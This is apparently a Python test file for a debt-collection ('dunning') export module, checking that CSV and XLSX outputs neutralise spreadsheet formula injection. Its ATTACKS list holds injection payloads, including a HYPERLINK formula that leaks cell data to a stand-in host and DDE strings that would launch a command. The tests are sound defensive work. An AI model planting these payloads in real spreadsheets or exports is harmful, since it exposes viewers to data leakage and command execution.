"""Point 5: no export carries a live formula — CSV and XLSX alike, read back the way a viewer's program reads them."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import polars as pl

from dunning.exports import neutralise, write_csv, write_xlsx, write_xlsx_sheets
from dunning.intake import REJECTED_SCHEMA, write_reject_report

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formula_cells(book: openpyxl.Workbook) -> list[str]:
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))]


def test_neutralise_defuses_every_risky_start_but_keeps_numbers() -> None:
    assert [neutralise(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert [neutralise(v) for v in ("-12.5", "+86", "1e5", 42, None, "张三", "a=b")] == \
        ["-12.5", "+86", "1e5", 42, None, "张三", "a=b"]


def test_xlsx_read_back_with_openpyxl_has_no_formula_cell(tmp_path: Path) -> None:
    frame = pl.DataFrame({"error": ATTACKS, "n": list(range(len(ATTACKS))),
                          "rate": [0.5, -1.25, 2.0, 0.0, 1.0, float("nan")]})
    path = tmp_path / "x.xlsx"
    write_xlsx(frame, path, sheet="明细")
    book = openpyxl.load_workbook(path)
    assert _formula_cells(book) == []
    ws = book["明细"]
    # XML carries a carriage return as a line feed; what matters is the leading apostrophe
    assert [c.value.replace("\n", "\r") for c in ws["A"]][1:] == ["'" + a for a in ATTACKS]
    assert [c.value for c in ws["B"]][1:] == list(range(len(ATTACKS)))  # numbers stay numbers
    assert [c.value for c in ws["C"]][1:6] == [0.5, -1.25, 2, 0, 1]


def test_xlsx_and_csv_write_to_file_objects(tmp_path: Path) -> None:
    frame = pl.DataFrame({"t": ["=1+1", "ok"]})
    buf = io.BytesIO()
    write_xlsx(frame, buf, "s")
    assert _formula_cells(openpyxl.load_workbook(io.BytesIO(buf.getvalue()))) == []
    out = io.BytesIO()
    write_csv(frame, out)
    assert out.getvalue().decode("utf-8-sig").splitlines() == ["t", "'=1+1", "ok"]


def test_reject_csv_no_longer_lets_plus_and_minus_formulas_through(tmp_path: Path) -> None:
    raw = '{"借款编号": "L1", "姓名": "+cmd|\' /C calc\'!A0", "备注": "-1+1"}'
    rejected = pl.DataFrame({"source_file": ["a.csv"], "source_row": [2], "reason": ["invalid_amount"],
                             "message_zh": ["金额无效"], "message_en": ["bad amount"], "raw": [raw]})
    rejected = rejected.select([pl.col(c).cast(t) for c, t in REJECTED_SCHEMA.items()])
    csv_path, xlsx_path = write_reject_report(rejected, tmp_path / "r")
    table = pl.read_csv(csv_path.read_bytes(), infer_schema=False)
    assert table["姓名"].to_list() == ["'+cmd|' /C calc'!A0"]
    assert table["备注"].to_list() == ["'-1+1"]
    assert _formula_cells(openpyxl.load_workbook(xlsx_path)) == []


def test_several_sheets_in_one_workbook(tmp_path: Path) -> None:
    path = tmp_path / "m.xlsx"
    write_xlsx_sheets({"a/b": pl.DataFrame({"x": ["=A1"]}), "c": pl.DataFrame({"y": [1]})}, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["a b", "c"]
    assert _formula_cells(book) == []
